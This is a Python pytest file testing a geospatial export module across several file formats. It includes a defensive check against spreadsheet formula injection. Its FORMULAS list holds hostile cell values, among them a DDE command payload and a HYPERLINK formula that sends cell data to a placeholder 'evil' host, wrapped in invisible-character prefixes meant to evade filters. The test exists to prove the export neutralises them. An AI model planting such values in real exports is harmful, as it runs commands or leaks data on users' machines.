import csv
import io
import json
import re
import tempfile
from dataclasses import replace
from pathlib import Path

import geopandas.testing
import pandas as pd
import pytest
import shapely
from hypothesis import given, settings
from hypothesis import strategies as st

from geo import COLUMNS, FileError, FrameError, Frames, export, frame
from geo.export.cells import hide_formula, is_formula, show_formula

from .dossiers import Handful, dossiers, small_dossier

# What a program skips before it takes a cell for a formula; the apostrophe is what makes it text.
INVISIBLE = '\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff\u00ad\u00a0\u3000"\x00\x01\x1f '
FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠﹦﹢﹣﹫]")
FORMULAS = [
    f"{before}{sign}{what}"
    for sign in "=+-@＝＋－＠﹦﹢﹣﹫"
    for before in (
        "",
        " ",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "'",
        '"',
        "\u200b",
        "\ufeff",
        "\u202e",
        "\u2066",
        "\u00a0",
        "x;",
        "x\t",
        "x\n",
    )
    for what in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil/?"&A1,"ok")', "SUM(A1:A9)*2;")
]

SUFFIXES = [".gpkg", ".geojson", ".csv", ".parquet", ".arrow", ".xlsx"]


@pytest.fixture(scope="module")
def frames():
    return frame(small_dossier(), Handful())


def assert_equal(left, right):
    assert (left.theatre, left.schema_version) == (right.theatre, right.schema_version)
    for name, table in left.tables().items():
        other = right.tables()[name]
        if "geometry" in COLUMNS[name]:
            geopandas.testing.assert_geodataframe_equal(table, other)
        else:
            pd.testing.assert_frame_equal(table, other, check_exact=True)


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("make", [lambda: frame(small_dossier(), Handful()), lambda: Frames.empty("durand")])
def test_frames_come_back_equal(tmp_path, suffix, make):
    path = tmp_path / f"out{suffix}"
    export.write(make(), path)
    assert_equal(make(), export.read_frames(path))


@settings(max_examples=6)
@given(dossier=dossiers())
def test_any_frames_come_back_equal(dossier):
    made = frame(dossier, Handful())
    for suffix in SUFFIXES[:4] + SUFFIXES[5:]:  # Arrow is as GeoParquet is
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder, f"out{suffix}")
            export.write(made, path)
            assert_equal(made, export.read_frames(path))


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_the_same_frames_give_the_same_bytes(tmp_path, frames, suffix):
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        export.write(frames, tmp_path / folder / f"out{suffix}")
    first, second = (sorted((tmp_path / folder).iterdir()) for folder in ("a", "b"))
    assert [path.name for path in first] == [path.name for path in second]
    assert [path.read_bytes() for path in first] == [path.read_bytes() for path in second]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_result_is_written_like_its_frames(tmp_path, frames, suffix):
    class Result:
        pass

    result = Result()
    result.frames = frames
    export.write(result, tmp_path / f"out{suffix}")
    assert_equal(frames, export.read_frames(tmp_path / f"out{suffix}"))


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_what_the_seeds_tell_comes_back_equal(tmp_path, seed_result, suffix):
    export.write(seed_result, tmp_path / f"out{suffix}")
    assert_equal(seed_result.frames, export.read_frames(tmp_path / f"out{suffix}"))
    assert len(seed_result.areas)


def test_geojson_shows_each_place_once_and_what_has_none_without_geometry(tmp_path, frames):
    export.write(frames, tmp_path / "out.geojson")
    collection = json.loads((tmp_path / "out.geojson").read_text("utf-8"))
    shown = {
        feature["id"]: feature["geometry"] and feature["geometry"]["type"]
        for feature in collection["features"]
    }
    assert shown == {
        "i000000000001/1": "MultiPolygon",
        "i000000000001/2": "Point",
        "i000000000001/3": "Point",
        "i000000000001/4": None,
        "i000000000001/5": "MultiPolygon",
        "i000000000002": None,
    }
    properties = collection["features"][0]["properties"]
    assert (properties["kind"], properties["place_kind"], properties["title"]) == (
        "clash",
        "province",
        "Clash in B",
    )
    assert "crs" not in collection


def test_geojson_rings_follow_the_right_hand_rule(tmp_path, frames):
    clockwise = frames.areas.set_geometry(frames.areas.geometry.apply(shapely.reverse))
    export.write(replace(frames, areas=clockwise), tmp_path / "out.geojson")
    collection = json.loads((tmp_path / "out.geojson").read_text("utf-8"))
    for feature in collection["features"]:
        if feature["geometry"] and feature["geometry"]["type"] == "MultiPolygon":
            for rings in feature["geometry"]["coordinates"]:
                assert shapely.LinearRing(rings[0]).is_ccw


def test_geojson_opens_as_a_layer(tmp_path, frames):
    export.write(frames, tmp_path / "out.geojson")
    layer = geopandas.read_file(tmp_path / "out.geojson", engine="pyogrio")
    assert len(layer) == 6
    assert layer.crs.to_epsg() == 4326


def test_geopackage_layers_of_places_can_be_drawn_by_incident(tmp_path, frames):
    export.write(frames, tmp_path / "out.gpkg")
    layer = geopandas.read_file(tmp_path / "out.gpkg", layer="areas")
    assert layer["incident_kind"].tolist() == ["clash"] * 3
    assert layer["date_start"].tolist() == ["2025-10-12"] * 3
    assert set(layer.geom_type) == {"MultiPolygon"}


def test_no_cell_of_a_sheet_becomes_a_formula_and_all_come_back(tmp_path):
    rows = [
        {"what": "claim", "ref": f"c{number}", "why": "aggregate", "text": text, "article_id": ""}
        for number, text in enumerate(FORMULAS)
    ]
    made = Frames.from_rows("durand", {"unplaced": rows})
    export.write(made, tmp_path / "out.csv")
    data = (tmp_path / "out.unplaced.csv").read_text("utf-8-sig")
    # By the comma, and as a spreadsheet would that takes the semicolon, the tab or the bar for it.
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator):
            assert not [cell for cell in row if FORMULA.match(cell.strip(INVISIBLE).strip())]
    assert export.read_frames(tmp_path / "out.csv").unplaced["text"].tolist() == FORMULAS


@given(text=st.text(st.sampled_from("=＝+-@'\"\t\r\n ;|\u200b\u202ea"), max_size=8) | st.text())
def test_whatever_is_hidden_in_a_cell_is_shown_again(text):
    hidden = hide_formula(text)
    assert show_formula(hidden) == text
    assert not is_formula(text) or hidden != text
    assert not FORMULA.match(hidden.strip(INVISIBLE).strip())


def test_the_sheet_of_places_has_coordinates_only_for_points_and_no_toll(tmp_path, frames):
    export.write(frames, tmp_path / "out.csv")
    sheet = pd.read_csv(tmp_path / "out.csv")
    assert sheet["place_name"].tolist()[:3] == ["B", "C", "E"]
    assert sheet["lat"].notna().tolist() == [False, True, True, False, False, False]
    assert not {"value_low", "low", "best", "killed"} & set(sheet.columns)


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("broken", ["a\0b", "\ud800"])
def test_text_that_a_file_would_lose_is_refused_and_the_old_file_stays(tmp_path, frames, suffix, broken):
    path = tmp_path / f"out{suffix}"
    path.write_text("old")
    # As objects: pandas would hand a text to pyarrow, which refuses it by itself.
    titles = pd.Series([broken] * len(frames.articles), dtype=object)
    wrong = replace(frames, articles=frames.articles.assign(title=titles))
    with pytest.raises(FrameError, match="articles: column 'title'"):
        export.write(wrong, path)
    assert [entry.name for entry in tmp_path.iterdir()] == [path.name]
    assert path.read_text() == "old"


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_folder_that_is_not_there_is_named(tmp_path, frames, suffix):
    with pytest.raises(FileError, match=r"there is no folder .*nowhere; make it") as raised:
        export.write(frames, tmp_path / "nowhere" / f"out{suffix}")
    assert "\n" not in str(raised.value)


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_folder_is_no_file_to_write(tmp_path, frames, suffix):
    (tmp_path / f"out{suffix}").mkdir()
    with pytest.raises(FileError, match="is a folder"):
        export.write(frames, tmp_path / f"out{suffix}")


def test_an_unknown_suffix_is_told_with_the_known_ones(frames, tmp_path):
    with pytest.raises(FrameError, match=r"unknown format '.xyz'; write .gpkg, .* or ."):
        export.write(frames, tmp_path / "out.xyz")
    with pytest.raises(FrameError, match="no result of geo"):
        export.write("frames", tmp_path / "out.csv")


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("content", [b"", b"{}", b"[[[", b"\xff\xfe", b"a,b\n1,2\n", b"[" * 100_000])
def test_a_file_of_other_make_is_refused_in_one_line(tmp_path, suffix, content):
    path = tmp_path / f"out{suffix}"
    path.write_bytes(content)
    with pytest.raises(FrameError) as raised:
        export.read_frames(path)
    assert str(path.parent) in str(raised.value)
    assert "\n" not in str(raised.value)


def test_another_version_of_the_schema_is_refused(tmp_path, frames):
    path = tmp_path / "out.geojson"
    export.write(frames, path)
    collection = json.loads(path.read_text("utf-8"))
    collection["clashline"]["schema_version"] = 99
    path.write_text(json.dumps(collection), encoding="utf-8")
    with pytest.raises(FrameError, match="schema version 99"):
        export.read_frames(path)


def test_a_table_that_is_missing_beside_a_sheet_is_named(tmp_path, frames):
    export.write(frames, tmp_path / "out.csv")
    (tmp_path / "out.claims.csv").unlink()
    with pytest.raises(FileError, match=r"out.claims.csv: no such file; .* keep them together"):
        export.read_frames(tmp_path / "out.csv")
